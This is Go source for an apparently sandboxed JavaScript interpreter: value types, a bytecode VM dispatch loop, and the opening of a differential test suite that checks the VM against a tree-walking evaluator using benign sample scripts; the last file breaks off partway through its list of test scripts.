	return n
}

// Kind returns the value kind.
func (v Value) Kind() ValueKind {
	if v.kind == 0 {
		return KindUndefined
	}
	return v.kind
}

// IsUndefined reports kind == undefined.
func (v Value) IsUndefined() bool { return v.Kind() == KindUndefined }

// IsNull reports kind == null.
func (v Value) IsNull() bool { return v.kind == KindNull }

// IsString reports kind == string.
func (v Value) IsString() bool { return v.kind == KindString }

// IsNumber reports kind == number.
func (v Value) IsNumber() bool { return v.kind == KindNumber }

// IsObject reports kind == object.
func (v Value) IsObject() bool { return v.kind == KindObject }

// Object returns the underlying object or nil.
func (v Value) Object() *Object {
	if v.kind == KindObject {
		return v.obj
	}
	return nil
}

// Str returns the raw string payload (only meaningful for strings).
func (v Value) Str() string { return v.str }

// StrLen returns the UTF-16 length of a string value.
func (v Value) StrLen() int { return v.strLen }

// Num returns the raw number payload.
func (v Value) Num() float64 { return v.num }

// Bool returns the raw bool payload.
func (v Value) Bool() bool { return v.b }

// ToBoolean implements the ES abstract operation.
func (v Value) ToBoolean() bool {
	switch v.Kind() {
	case KindUndefined, KindNull:
		return false
	case KindBool:
		return v.b
	case KindNumber:
		return v.num != 0 && !math.IsNaN(v.num)
	case KindString:
		return len(v.str) > 0
	default:
		return true
	}
}

// ToNumber implements the ES abstract operation (sans exotic cases).
func (v Value) ToNumber() float64 {
	switch v.Kind() {
	case KindUndefined:
		return math.NaN()
	case KindNull:
		return 0
	case KindBool:
		if v.b {
			return 1
		}
		return 0
	case KindNumber:
		return v.num
	case KindString:
		return stringToNumber(v.str)
	default:
		// Object -> primitive via valueOf-ish: arrays join, others NaN.
		if v.obj != nil && v.obj.Class == ClassArray && v.obj.arrayLen() == 1 {
			return v.obj.getIndex(0).ToNumber()
		}
		return math.NaN()
	}
}

func stringToNumber(s string) float64 {
	t := strings.TrimSpace(s)
	if t == "" {
		return 0
	}
	neg := false
	if strings.HasPrefix(t, "-") {
		neg = true
		t = t[1:]
	} else if strings.HasPrefix(t, "+") {
		t = t[1:]
	}
	var f float64
	if strings.HasPrefix(t, "0x") || strings.HasPrefix(t, "0X") {
		n, err := strconv.ParseUint(t[2:], 16, 64)
		if err != nil {
			return math.NaN()
		}
		f = float64(n)
	} else {
		var err error
		f, err = strconv.ParseFloat(t, 64)
		if err != nil {
			return math.NaN()
		}
	}
	if neg {
		f = -f
	}
	return f
}

// numberToString renders a float per (approximated) ES ToString(Number).
func numberToString(f float64) string {
	switch {
	case math.IsNaN(f):
		return "NaN"
	case math.IsInf(f, 1):
		return "Infinity"
	case math.IsInf(f, -1):
		return "-Infinity"
	case f == math.Trunc(f) && math.Abs(f) < 1e21:
		return strconv.FormatFloat(f, 'f', -1, 64)
	default:
		return strconv.FormatFloat(f, 'g', -1, 64)
	}
}

// TypeOf implements the typeof operator.
func (v Value) TypeOf() string {
	switch v.Kind() {
	case KindUndefined:
		return "undefined"
	case KindNull:
		return "object"
	case KindBool:
		return "boolean"
	case KindNumber:
		return "number"
	case KindString:
		return "string"
	default:
		if v.obj != nil && v.obj.IsCallable() {
			return "function"
		}
		return "object"
	}
}

// Object classes.
const (
	ClassObject   = "Object"
	ClassArray    = "Array"
	ClassFunction = "Function"
	ClassError    = "Error"
	ClassHost     = "Host"
)

// HostFn is a native function exposed to scripts. this is the receiver
// value (undefined for plain calls).
type HostFn func(it *Interp, this Value, args []Value) (Value, error)

// PropGetter computes a property dynamically (e.g. doc.info.title).
type PropGetter func(it *Interp) (Value, error)

// Object is a Javascript object. Property insertion order is preserved for
// deterministic for-in iteration.
type Object struct {
	Class string
	// Name is a diagnostic label for host objects and functions.
	Name string

	props map[string]Value
	keys  []string

	// getters are consulted before props (host objects).
	getters map[string]PropGetter

	// Fn is set for user-defined functions.
	Fn *FuncLit
	// Proto is the compiled body when the function was created by the
	// bytecode VM; callFunction dispatches to the VM when set, so a
	// closure always runs on the engine that created it.
	Proto *FnProto
	// Env is the closure environment for user functions.
	Env *Scope
	// Host is set for native functions.
	Host HostFn

	// length for arrays (tracked explicitly so sparse writes work).
	length int
}

// NewObject returns a plain object.
func NewObject() *Object {
	return &Object{Class: ClassObject, props: make(map[string]Value)}
}

// NewHostObject returns a named host object.
func NewHostObject(name string) *Object {
	return &Object{Class: ClassHost, Name: name, props: make(map[string]Value)}
}

// NewArray returns an array object with the given elements.
func NewArray(elems ...Value) *Object {
	o := &Object{Class: ClassArray, props: make(map[string]Value, len(elems))}
	for i, el := range elems {
		o.setIndex(i, el)
	}
	return o
}

// NewHostFunc wraps a native function.
func NewHostFunc(name string, fn HostFn) *Object {
	return &Object{Class: ClassFunction, Name: name, Host: fn, props: make(map[string]Value)}
}

// IsCallable reports whether the object can be invoked.
func (o *Object) IsCallable() bool { return o != nil && (o.Host != nil || o.Fn != nil) }

// DefineGetter registers a dynamic property on a host object.
func (o *Object) DefineGetter(name string, g PropGetter) {
	if o.getters == nil {
		o.getters = make(map[string]PropGetter)
	}
	o.getters[name] = g
}

// Getter returns the registered getter for name.
func (o *Object) Getter(name string) (PropGetter, bool) {
	g, ok := o.getters[name]
	return g, ok
}

// GetOwn returns an own property.
func (o *Object) GetOwn(name string) (Value, bool) {
	v, ok := o.props[name]
	return v, ok
}

// Set defines or updates a property, preserving insertion order.
func (o *Object) Set(name string, v Value) {
	if o.props == nil {
		o.props = make(map[string]Value)
	}
	if _, exists := o.props[name]; !exists {
		o.keys = append(o.keys, name)
	}
	o.props[name] = v
	if o.Class == ClassArray {
		if idx, ok := arrayIndex(name); ok && idx >= o.length {
			o.length = idx + 1
		}
		if name == "length" {
			// Explicit length assignment truncates (approximation: only
			// adjusts the counter).
			n := int(v.ToNumber())
			if n >= 0 {
				o.truncate(n)
			}
		}
	}
}

// Delete removes a property.
func (o *Object) Delete(name string) {
	if _, ok := o.props[name]; !ok {
		return
	}
	delete(o.props, name)
	for i, k := range o.keys {
		if k == name {
			o.keys = append(o.keys[:i], o.keys[i+1:]...)
			break
		}
	}
}

func (o *Object) truncate(n int) {
	if n >= o.length {
		o.length = n
		return
	}
	for i := n; i < o.length; i++ {
		o.Delete(strconv.Itoa(i))
	}
	o.length = n
}

// Keys returns property names in insertion order (excluding length).
func (o *Object) Keys() []string {
	out := make([]string, 0, len(o.keys))
	for _, k := range o.keys {
		if o.Class == ClassArray && k == "length" {
			continue
		}
		out = append(out, k)
	}
	if o.Class == ClassArray {
		// Numeric keys first in ascending order, like real engines.
		sort.SliceStable(out, func(i, j int) bool {
			ai, aok := arrayIndex(out[i])
			bi, bok := arrayIndex(out[j])
			switch {
			case aok && bok:
				return ai < bi
			case aok:
				return true
			default:
				return false
			}
		})
	}
	return out
}

func arrayIndex(name string) (int, bool) {
	if name == "" || len(name) > 9 {
		return 0, false
	}
	n := 0
	for i := 0; i < len(name); i++ {
		c := name[i]
		if c < '0' || c > '9' {
			return 0, false
		}
		n = n*10 + int(c-'0')
	}
	if len(name) > 1 && name[0] == '0' {
		return 0, false
	}
	return n, true
}

func (o *Object) arrayLen() int { return o.length }

func (o *Object) getIndex(i int) Value {
	v, ok := o.props[strconv.Itoa(i)]
	if !ok {
		return Undefined()
	}
	return v
}

func (o *Object) setIndex(i int, v Value) {
	o.Set(strconv.Itoa(i), v)
}
