package js

import "errors"

// The VM executes compiled Code units on an explicit value stack. All
// semantic heavy lifting — binary operators, property access, builtin
// method lookup, function invocation, string conversion — goes through the
// exact helpers the tree-walker uses (binaryOp, getMember, lookupMethod,
// callFunction, valueToString), so work charging, heap accounting and every
// host-visible hook fire identically from both engines. The VM only
// replaces the recursive dispatch and the error-based control flow of
// eval.go with jumps and an explicit handler stack.

// Frame execution modes. Program and eval frames track a completion value
// with their respective capture rules; function frames return via opReturn.
const (
	modeFunc = iota
	modeProgram
	modeEval
)

// Completion kinds: how a frame region finished.
const (
	compNormal = iota
	// compErr carries a Go error (ThrowError, FatalError, budget/heap
	// errors, or the break/continue control sentinels escaping the frame).
	compErr
	// compReturn carries a return value.
	compReturn
	// compJump is a break/continue routed through finally blocks toward a
	// target inside the frame.
	compJump
)

type vmComp struct {
	kind int
	err  error
	val  Value
	up   unwindPoint
}

type vmIter struct {
	keys []string
	idx  int
}

type vmCallInfo struct {
	hf   HostFn
	fn   *Object
	this Value
	newV Value
}

// vmHandler is one active try statement.
type vmHandler struct {
	def               handlerDef
	sp, iters, calls  int
	scope             *Scope
	phase             uint8 // 0 = body, 1 = catch, 2 = finally
	pending           vmComp
}

type vmFrame struct {
	unit       *Code
	ins        []instr
	stack      []Value
	sp         int
	pc         int
	scope      *Scope
	program    bool
	completion Value
	handlers   []vmHandler
	iters      []vmIter
	calls      []vmCallInfo
}

// applyHoists reproduces the tree-walker's hoist pass at frame entry.
func applyHoists(sc *Scope, entries []hoistEntry) {
	for i := range entries {
		e := &entries[i]
		if e.proto != nil {
			fn := &Object{Class: ClassFunction, Name: e.name, Fn: e.proto.Lit, Proto: e.proto, Env: sc, props: make(map[string]Value)}
			sc.Declare(e.name, ObjectValue(fn))
		} else if _, exists := sc.vars[e.name]; !exists {
			sc.Declare(e.name, Undefined())
		}
	}
}

// runCode executes a compiled top-level unit in sc.
func (it *Interp) runCode(code *Code, sc *Scope, mode int) (Value, error) {
	if mode == modeProgram {
		it.curScope = sc
	}
	applyHoists(sc, code.hoists)
	f := &vmFrame{
		unit:    code,
		ins:     code.ins,
		stack:   make([]Value, code.maxStack),
		scope:   sc,
		program: mode == modeProgram,
	}
	comp := runFrame(it, f)
	switch comp.kind {
	case compNormal:
		return comp.val, nil
	case compReturn:
		if mode == modeProgram {
			return Undefined(), it.throwNamed("SyntaxError", "return outside function")
		}
		// eval converts a stray return into its value, like EvalInScope.
		return comp.val, nil
	default:
		if mode == modeProgram && (comp.err == errBreak || comp.err == errContinue) {
			return Undefined(), it.throwNamed("SyntaxError", "break/continue outside loop")
		}
		return Undefined(), comp.err
	}
}

// callCompiled invokes a function object carrying compiled code. The scope
// setup mirrors callFunction's tree path declaration for declaration:
// parameters, then arguments (which shadows a parameter of that name), then
// the self-name binding, then hoisting.
func (it *Interp) callCompiled(fn *Object, this Value, args []Value) (Value, error) {
	p := fn.Proto
	scope := NewScope(fn.Env)
	for i, pn := range p.Lit.Params {
		if i < len(args) {
			scope.Declare(pn, args[i])
		} else {
			scope.Declare(pn, Undefined())
		}
	}
	argObj := NewArray(args...)
	scope.Declare("arguments", ObjectValue(argObj))
	if p.Lit.Name != "" {
		if _, exists := scope.vars[p.Lit.Name]; !exists {
			scope.Declare(p.Lit.Name, ObjectValue(fn))
		}
	}
	applyHoists(scope, p.hoists)

	prevScope := it.curScope
	prevThis := it.This
	it.curScope = scope
	it.This = this
	defer func() {
		it.curScope = prevScope
		it.This = prevThis
	}()

	f := &vmFrame{
		unit:  p.Unit,
		ins:   p.ins,
		stack: make([]Value, p.maxStack),
		scope: scope,
	}
	comp := runFrame(it, f)
	switch comp.kind {
	case compNormal:
		return Undefined(), nil
	case compReturn:
		return comp.val, nil
	default:
		return Undefined(), comp.err
	}
}

// unwind routes an abrupt completion through the frame's try handlers,
// mirroring execStmt's TryStmt arm: FatalError skips catch and finally
// entirely; only ThrowError is catchable; every other abrupt completion
// (break, continue, return, budget/heap errors) still runs finally blocks;
// an abrupt completion inside a finally replaces the pending one. It
// returns (false, _) when execution resumes inside the frame and
// (true, final) when the frame exits.
func (f *vmFrame) unwind(it *Interp, comp vmComp) (bool, vmComp) {
	if comp.kind == compErr {
		var fatal *FatalError
		if errors.As(comp.err, &fatal) {
			return true, comp
		}
	}
	for len(f.handlers) > 0 {
		if comp.kind == compJump && len(f.handlers) <= int(comp.up.handlers) {
			break
		}
		h := &f.handlers[len(f.handlers)-1]
		switch h.phase {
		case 0: // try body
			if comp.kind == compErr {
				var thrown *ThrowError
				if errors.As(comp.err, &thrown) && h.def.catchPC >= 0 {
					h.phase = 1
					f.sp = h.sp
					f.iters = f.iters[:h.iters]
					f.calls = f.calls[:h.calls]
					cs := NewScope(h.scope)
					cs.Declare(f.unit.Names[h.def.catchName], thrown.Value)
					f.scope = cs
					f.pc = int(h.def.catchPC)
					return false, vmComp{}
				}
			}
			if h.def.finallyPC >= 0 {
				h.phase = 2
				h.pending = comp
				f.sp = h.sp
				f.iters = f.iters[:h.iters]
				f.calls = f.calls[:h.calls]
				f.scope = h.scope
				f.pc = int(h.def.finallyPC)
				return false, vmComp{}
			}
			f.handlers = f.handlers[:len(f.handlers)-1]
		case 1: // catch body completed abruptly (never re-caught)
			f.scope = h.scope
			if h.def.finallyPC >= 0 {
				h.phase = 2
				h.pending = comp
				f.sp = h.sp
				f.iters = f.iters[:h.iters]
				f.calls = f.calls[:h.calls]
				f.pc = int(h.def.finallyPC)
				return false, vmComp{}
			}
			f.handlers = f.handlers[:len(f.handlers)-1]
		default: // finally completed abruptly: its completion replaces the pending one
			f.scope = h.scope
			f.handlers = f.handlers[:len(f.handlers)-1]
		}
	}
	if comp.kind == compJump {
		f.pc = int(comp.up.target)
		f.sp = int(comp.up.sp)
		f.iters = f.iters[:comp.up.iters]
		f.calls = f.calls[:comp.up.calls]
		return false, vmComp{}
	}
	return true, comp
}

// runFrame is the dispatch loop. It returns the frame's final completion.
func runFrame(it *Interp, f *vmFrame) vmComp {
	ins := f.ins
	names := f.unit.Names
	consts := f.unit.Consts

	for {
		if f.pc >= len(ins) {
			return vmComp{kind: compNormal, val: f.completion}
		}
		in := ins[f.pc]
		f.pc++
		if in.cost != 0 {
			if err := it.chargeSteps(int64(in.cost)); err != nil {
				if exit, final := f.unwind(it, vmComp{kind: compErr, err: err}); exit {
					return final
				}
				continue
			}
		}
		var failErr error
		switch in.op {
		case opNop:
			// cost only
		case opConst:
			f.stack[f.sp] = consts[in.a]
			f.sp++
		case opThis:
			f.stack[f.sp] = it.This
			f.sp++
		case opLoadName:
			name := names[in.a]
			v, ok := f.scope.Lookup(name)
			if !ok {
				failErr = it.throwNamed("ReferenceError", name+" is not defined")
				break
			}
			f.stack[f.sp] = v
			f.sp++
		case opTypeofName:
			v, ok := f.scope.Lookup(names[in.a])
			if !ok {
				f.stack[f.sp] = StringValue("undefined")
			} else {
				f.stack[f.sp] = StringValue(v.TypeOf())
			}
			f.sp++
		case opStoreName:
			f.scope.Assign(names[in.a], f.stack[f.sp-1])
		case opStoreNamePop:
			f.sp--
			f.scope.Assign(names[in.a], f.stack[f.sp])
		case opDeclName:
			f.sp--
			declareVar(f.scope, names[in.a], f.stack[f.sp])
		case opDeclNameUndef:
			name := names[in.a]
			if _, exists := lookupDeclaring(f.scope, name); !exists {
				declareVar(f.scope, name, Undefined())
			}
		case opPop:
			f.sp--
		case opDup:
			f.stack[f.sp] = f.stack[f.sp-1]
			f.sp++
		case opClosure:
			p := f.unit.Protos[in.a]
			fn := &Object{Class: ClassFunction, Name: p.Lit.Name, Fn: p.Lit, Proto: p, Env: f.scope, props: make(map[string]Value)}
			f.stack[f.sp] = ObjectValue(fn)
			f.sp++
		case opNewArray:
			f.stack[f.sp] = ObjectValue(NewArray())
			f.sp++
		case opArrayPush:
			f.sp--
			v := f.stack[f.sp]
			arr := f.stack[f.sp-1].obj
			arr.setIndex(arr.arrayLen(), v)
			failErr = it.alloc(16)
		case opArrayHole:
			arr := f.stack[f.sp-1].obj
			arr.setIndex(arr.arrayLen(), Undefined())
		case opNewObject:
			f.stack[f.sp] = ObjectValue(NewObject())
			f.sp++
		case opSetProp:
			f.sp--
			v := f.stack[f.sp]
			f.stack[f.sp-1].obj.Set(names[in.a], v)
			failErr = it.alloc(32)
		case opGetMember:
			v, err := it.getMember(f.stack[f.sp-1], names[in.a])
			if err != nil {
				failErr = err
				break
			}
			f.stack[f.sp-1] = v
		case opGetMemberDyn:
			f.sp--
			name, err := valueToString(it, f.stack[f.sp])
			if err != nil {
				failErr = err
				break
			}
			v, err := it.getMember(f.stack[f.sp-1], name)
			if err != nil {
				failErr = err
				break
			}
			f.stack[f.sp-1] = v
		case opSetMember:
			failErr = f.setMember(it, names[in.a], in.b == 1)
		case opSetMemberDyn:
			f.sp--
			name, err := valueToString(it, f.stack[f.sp])
			if err != nil {
				failErr = err
				break
			}
			failErr = f.setMember(it, name, in.b == 1)
		case opDelMember:
			if o := f.stack[f.sp-1].Object(); o != nil {
				o.Delete(names[in.a])
			}
			f.stack[f.sp-1] = BoolValue(true)
		case opDelMemberDyn:
			f.sp--
			name, err := valueToString(it, f.stack[f.sp])
			if err != nil {
				failErr = err
				break
			}
			if o := f.stack[f.sp-1].Object(); o != nil {
				o.Delete(name)
			}
			f.stack[f.sp-1] = BoolValue(true)
		case opTypeofVal:
			f.stack[f.sp-1] = StringValue(f.stack[f.sp-1].TypeOf())
		case opNot:
			f.stack[f.sp-1] = BoolValue(!f.stack[f.sp-1].ToBoolean())
		case opNeg:
			f.stack[f.sp-1] = NumberValue(-f.stack[f.sp-1].ToNumber())
		case opPlus:
			f.stack[f.sp-1] = NumberValue(f.stack[f.sp-1].ToNumber())
		case opBitNot:
			f.stack[f.sp-1] = NumberValue(float64(^toInt32(f.stack[f.sp-1].ToNumber())))
		case opVoid:
			f.stack[f.sp-1] = Undefined()
		case opIncDec:
			old := f.stack[f.sp-1]
			n := old.ToNumber()
			next := n + float64(in.a)
			ret := n
			if in.b == 1 {
				ret = next
			}
			f.stack[f.sp-1] = NumberValue(ret)
			f.stack[f.sp] = NumberValue(next)
			f.sp++
		case opInvalidTarget:
			failErr = it.throwTypeError("invalid assignment target")
		case opBinary:
			f.sp--
			r := f.stack[f.sp]
			l := f.stack[f.sp-1]
			v, err := it.binaryOp(binOps[in.a], l, r)
			if err != nil {
				failErr = err
				break
			}
			f.stack[f.sp-1] = v
		case opJump:
			f.pc = int(in.a)
		case opJumpIfFalse:
			f.sp--
			cond := f.stack[f.sp].ToBoolean()
			if in.b == jumpForceEligible && it.Force != nil {
				cond = it.Force.next(cond)
			}
			if !cond {
				f.pc = int(in.a)
			}
		case opJumpIfTrue:
			f.sp--
			cond := f.stack[f.sp].ToBoolean()
			if in.b == jumpForceEligible && it.Force != nil {
				cond = it.Force.next(cond)
			}
			if cond {
				f.pc = int(in.a)
			}
		case opJumpIfFalsePeek:
			if !f.stack[f.sp-1].ToBoolean() {
				f.pc = int(in.a)
			} else {
				f.sp--
			}
		case opJumpIfTruePeek:
			if f.stack[f.sp-1].ToBoolean() {
				f.pc = int(in.a)
			} else {
				f.sp--
			}
		case opCaseJump:
			f.sp--
			if strictEquals(f.stack[f.sp-1], f.stack[f.sp]) {
				f.pc = int(in.a)
			}
		case opPrepCall:
			f.sp--
			fn := f.stack[f.sp].Object()
			if fn == nil || !fn.IsCallable() {
				desc := "value"
				if in.a >= 0 {
					desc = names[in.a]
				}
				failErr = it.throwTypeError("%s is not a function", desc)
				break
			}
			f.calls = append(f.calls, vmCallInfo{fn: fn, this: it.This})
		case opPrepCallMember:
			var name string
			if in.b == 1 {
				f.sp--
				var err error
				name, err = valueToString(it, f.stack[f.sp])
				if err != nil {
					failErr = err
					break
				}
			} else {
				name = names[in.a]
			}
			f.sp--
			objV := f.stack[f.sp]
			if hf, ok := it.lookupMethod(objV, name); ok {
				f.calls = append(f.calls, vmCallInfo{hf: hf, this: objV})
				break
			}
			fnVal, err := it.getMember(objV, name)
			if err != nil {
				failErr = err
				break
			}
			fn := fnVal.Object()
			if fn == nil || !fn.IsCallable() {
				desc := "value"
				if in.b == 0 {
					desc = name
				}
				failErr = it.throwTypeError("%s is not a function", desc)
				break
			}
			f.calls = append(f.calls, vmCallInfo{fn: fn, this: objV})
		case opPrepNew:
			f.sp--
			calleeV := f.stack[f.sp]
			ctor := calleeV.Object()
			if ctor == nil || !ctor.IsCallable() {
				failErr = it.throwTypeError("constructor is not callable")
				break
			}
			f.calls = append(f.calls, vmCallInfo{fn: ctor, newV: calleeV})
		case opCall:
			argc := int(in.a)
			args := make([]Value, argc)
			copy(args, f.stack[f.sp-argc:f.sp])
			f.sp -= argc
			ci := f.calls[len(f.calls)-1]
			f.calls = f.calls[:len(f.calls)-1]
			var v Value
			var err error
			if ci.hf != nil {
				// Builtin method fast path: no callFunction step, exactly
				// like evalCall's lookupMethod dispatch.
				v, err = ci.hf(it, ci.this, args)
			} else {
				v, err = it.callFunction(ci.fn, ci.this, args)
			}
			if err != nil {
				failErr = err
				break
			}
			f.stack[f.sp] = v
			f.sp++
		case opNew:
			argc := int(in.a)
			args := make([]Value, argc)
			copy(args, f.stack[f.sp-argc:f.sp])
			f.sp -= argc
			ci := f.calls[len(f.calls)-1]
			f.calls = f.calls[:len(f.calls)-1]
			v, err := it.construct(ci.fn, ci.newV, args)
			if err != nil {
				failErr = err
				break
			}
			f.stack[f.sp] = v
			f.sp++
		case opForInInit:
			f.sp--
			o := f.stack[f.sp].Object()
			if o == nil {
				f.pc = int(in.a) // for-in over non-object iterates nothing
			} else {
				f.iters = append(f.iters, vmIter{keys: o.Keys()})
			}
		case opForInNextDecl, opForInNextAssign:
			itr := &f.iters[len(f.iters)-1]
			if itr.idx >= len(itr.keys) {
				f.iters = f.iters[:len(f.iters)-1]
				f.pc = int(in.a)
				break
			}
			kv := StringValue(itr.keys[itr.idx])
			itr.idx++
			if in.op == opForInNextDecl {
				declareVar(f.scope, names[in.b], kv)
			} else {
				f.scope.Assign(names[in.b], kv)
			}
		case opReturn:
			f.sp--
			if exit, final := f.unwind(it, vmComp{kind: compReturn, val: f.stack[f.sp]}); exit {
				return final
			}
			continue
		case opThrow:
			f.sp--
			failErr = &ThrowError{Value: f.stack[f.sp]}
		case opBreakErr:
			failErr = errBreak
		case opContinueErr:
			failErr = errContinue
		case opUnwind:
			if exit, final := f.unwind(it, vmComp{kind: compJump, up: f.unit.Unwinds[in.a]}); exit {
				return final
			}
			continue
		case opTryPush:
			f.handlers = append(f.handlers, vmHandler{
				def:   f.unit.Handlers[in.a],
				sp:    f.sp,
				iters: len(f.iters),
				calls: len(f.calls),
				scope: f.scope,
			})
		case opTryPopNormal:
			h := &f.handlers[len(f.handlers)-1]
			if h.def.finallyPC >= 0 {
				h.phase = 2
				h.pending = vmComp{kind: compNormal}
				f.pc = int(h.def.finallyPC)
			} else {
				f.pc = int(h.def.afterPC)
				f.handlers = f.handlers[:len(f.handlers)-1]
			}
		case opCatchEnd:
			h := &f.handlers[len(f.handlers)-1]
			f.scope = h.scope
			if h.def.finallyPC >= 0 {
				h.phase = 2
				h.pending = vmComp{kind: compNormal}
				f.pc = int(h.def.finallyPC)
			} else {
				f.pc = int(h.def.afterPC)
				f.handlers = f.handlers[:len(f.handlers)-1]
			}
		case opFinallyEnd:
			h := f.handlers[len(f.handlers)-1]
			f.handlers = f.handlers[:len(f.handlers)-1]
			if h.pending.kind != compNormal {
				if exit, final := f.unwind(it, h.pending); exit {
					return final
				}
			}
			// Normal pending: fall through to the code after the try.
		case opSetComp:
			f.sp--
			f.completion = f.stack[f.sp]
		case opSetCompIfDef:
			f.sp--
			if f.program && f.stack[f.sp].Kind() != KindUndefined {
				f.completion = f.stack[f.sp]
			}
		default:
			failErr = errUnhandledOp
		}
		if failErr != nil {
			if exit, final := f.unwind(it, vmComp{kind: compErr, err: failErr}); exit {
				return final
			}
		}
	}
}

var errUnhandledOp = errors.New("js: unhandled opcode")

// setMember implements opSetMember/opSetMemberDyn after name resolution:
// stack is [... value object]; keep leaves the value for assignment
// expressions, update expressions discard it.
func (f *vmFrame) setMember(it *Interp, name string, keep bool) error {
	f.sp--
	objV := f.stack[f.sp]
	v := f.stack[f.sp-1]
	o := objV.Object()
	if o == nil {
		return it.throwTypeError("cannot set property %q of %s", name, objV.TypeOf())
	}
	o.Set(name, v)
	if o.Class == ClassArray {
		if err := it.alloc(16); err != nil {
			return err
		}
	}
	if !keep {
		f.sp--
	}
	return nil
}

// construct implements new-expression semantics, mirroring evalNew.
func (it *Interp) construct(ctor *Object, calleeV Value, args []Value) (Value, error) {
	switch ctor.Name {
	case "Array", "Object", "String", "Number", "Boolean", "Error", "Function", "RegExp", "Date":
		// Builtin constructors behave the same with and without new.
		return it.callFunction(ctor, Undefined(), args)
	}
	obj := NewObject()
	obj.Set("constructor", calleeV)
	ret, err := it.callFunction(ctor, ObjectValue(obj), args)
	if err != nil {
		return Undefined(), err
	}
	if ret.IsObject() {
		return ret, nil
	}
	return ObjectValue(obj), nil
}
