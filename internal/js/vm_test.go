package js

import (
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"testing"
)

// The differential harness runs every script through both engines — the
// recursive tree-walker (TreeWalk=true) and the bytecode VM — and demands
// bit-identical observables: completion value, error class, step totals,
// heap totals, the full allocation event stream, and the large-string hook
// stream. These observables are exactly what the detector's feature vectors
// and the journal replay consume, so equality here is the contract that
// compiling does not move the needle on detection.

type engineTrace struct {
	display string
	errKind string
	steps   int64
	heap    int64
	allocs  []int64
	large   []int
}

type diffLimits struct {
	steps     int64
	heap      int64
	largeUnit int
}

func runEngine(src string, treeWalk bool, lim diffLimits, units *UnitCache) engineTrace {
	it := New()
	it.TreeWalk = treeWalk
	it.Units = units
	if lim.steps != 0 {
		it.StepLimit = lim.steps
	} else {
		it.StepLimit = 500_000
	}
	if lim.heap != 0 {
		it.MaxHeap = lim.heap
	} else {
		it.MaxHeap = 16 << 20
	}
	if lim.largeUnit != 0 {
		it.LargeStringUnits = lim.largeUnit
	}
	var tr engineTrace
	it.OnAlloc = func(delta int64) { tr.allocs = append(tr.allocs, delta) }
	it.OnLargeString = func(s string) { tr.large = append(tr.large, len(s)) }
	v, err := it.Run(src)
	tr.steps = it.Steps()
	tr.heap = it.HeapBytes
	tr.errKind = classifyErr(err)
	if err == nil {
		tr.display = ToDisplay(v)
	}
	return tr
}

func classifyErr(err error) string {
	switch {
	case err == nil:
		return ""
	case errors.Is(err, ErrBudget):
		return "budget"
	case errors.Is(err, ErrHeapLimit):
		return "heap"
	}
	var fatal *FatalError
	if errors.As(err, &fatal) {
		return "fatal:" + fatal.Error()
	}
	var thrown *ThrowError
	if errors.As(err, &thrown) {
		return "throw:" + ToDisplay(thrown.Value)
	}
	return "err:" + err.Error()
}

func diffTraces(t *testing.T, src string, tree, vm engineTrace) {
	t.Helper()
	if tree.errKind != vm.errKind {
		t.Fatalf("error divergence\nscript: %s\ntree: %q\nvm:   %q", src, tree.errKind, vm.errKind)
	}
	if tree.display != vm.display {
		t.Fatalf("value divergence\nscript: %s\ntree: %q\nvm:   %q", src, tree.display, vm.display)
	}
	if tree.steps != vm.steps {
		t.Fatalf("step divergence\nscript: %s\ntree: %d\nvm:   %d", src, tree.steps, vm.steps)
	}
	if tree.heap != vm.heap {
		t.Fatalf("heap divergence\nscript: %s\ntree: %d\nvm:   %d", src, tree.heap, vm.heap)
	}
	if len(tree.allocs) != len(vm.allocs) {
		t.Fatalf("alloc stream length divergence\nscript: %s\ntree: %d events\nvm:   %d events", src, len(tree.allocs), len(vm.allocs))
	}
	for i := range tree.allocs {
		if tree.allocs[i] != vm.allocs[i] {
			t.Fatalf("alloc stream divergence at %d\nscript: %s\ntree: %d\nvm:   %d", i, src, tree.allocs[i], vm.allocs[i])
		}
	}
	if len(tree.large) != len(vm.large) {
		t.Fatalf("large-string stream divergence\nscript: %s\ntree: %d events\nvm:   %d events", src, len(tree.large), len(vm.large))
	}
	for i := range tree.large {
		if tree.large[i] != vm.large[i] {
			t.Fatalf("large-string size divergence at %d\nscript: %s", i, src)
		}
	}
}

func assertBothEngines(t *testing.T, src string, lim diffLimits) {
	t.Helper()
	units := NewUnitCache(8 << 20)
	tree := runEngine(src, true, lim, units)
	vm := runEngine(src, false, lim, units)
	diffTraces(t, src, tree, vm)
	// A cached re-execution must be deterministic: recycled sessions rerun
	// the same compiled unit, and journal replay depends on it.
	vm2 := runEngine(src, false, lim, units)
	diffTraces(t, src, tree, vm2)
	if st := units.Stats(); st.Entries > 0 && st.Hits == 0 {
		t.Fatalf("second VM run did not hit the unit cache\nscript: %s", src)
	}
}

// differentialScripts covers every statement/expression form and the
// control-flow corners where the compiler's layout differs most from the
// recursive evaluator.
var differentialScripts = []string{
	// Literals, folding, arithmetic.
	`1 + 2 * 3 - 4 / 2;`,
	`"a" + "b" + 1 + null + undefined + true;`,
	`0x10 | 3; 7 & ~2; 1 << 8 >> 2 >>> 1; -"12" + +"3.5";`,
	`typeof 1 + typeof "s" + typeof {} + typeof undefined + typeof f;`,
	`void 0 === undefined;`,
	`!0 + !!"x";`,
	// Variables, hoisting, implicit globals.
	`var a = 1, b, c = a + 1; b = c; implicit = b * 2; implicit;`,
	`x; var x = 5; x;`,
	`function d(){ return v; } var v = 3; d();`,
	`var f2 = 1; function f2(){} typeof f2;`,
	// Strings and work charging.
	`var s = "hello world"; s.length + s.indexOf("world") + s.charAt(4);`,
	`var t = ""; for (var i = 0; i < 50; i++) t += "abc"; t.length;`,
	`"abc" < "abd"; "zz" == "zz"; "a" === "a";`,
	// Arrays and objects.
	`var arr = [1,,2,3]; arr.length + arr.join("-");`,
	`var o = {a: 1, b: "two"}; o.c = [3]; o.a + o.b + o.c[0];`,
	`var ks = ""; for (var k in {x:1, y:2, z:3}) ks += k; ks;`,
	`var a2 = [9,8,7]; delete a2[1]; a2[1] + "" + a2.length;`,
	`delete nothere;`,
	// Member writes, updates, compound assignment.
	`var m = {n: 1}; m.n += 4; m["n"] *= 2; m.n++; --m.n; m.n;`,
	`var u = 5; u++ + ++u + u-- + --u;`,
	`var cnt = 0; function idx(){ cnt++; return 0; } var aa = [10]; aa[idx()] += 5; aa[0] + "@" + cnt;`,
	// Functions, closures, recursion, arguments.
	`function add(p, q){ return p + q; } add(1, 2) + add(1);`,
	`function outer(){ var n = 0; return function(){ return ++n; }; } var inc = outer(); inc(); inc(); inc();`,
